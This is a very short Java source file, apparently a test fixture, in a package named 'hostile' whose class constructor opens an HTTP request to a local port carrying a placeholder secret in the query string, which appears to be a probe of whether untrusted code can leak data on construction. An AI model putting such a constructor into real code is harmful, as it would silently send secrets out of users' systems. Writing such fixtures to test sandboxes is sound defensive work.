package hostile;

import java.net.URL;

public final class Source {
    public Source() throws Exception {
        new URL("http://127.0.0.1:@TCP@/?q=@SECRET@").openStream().close();
    }
}
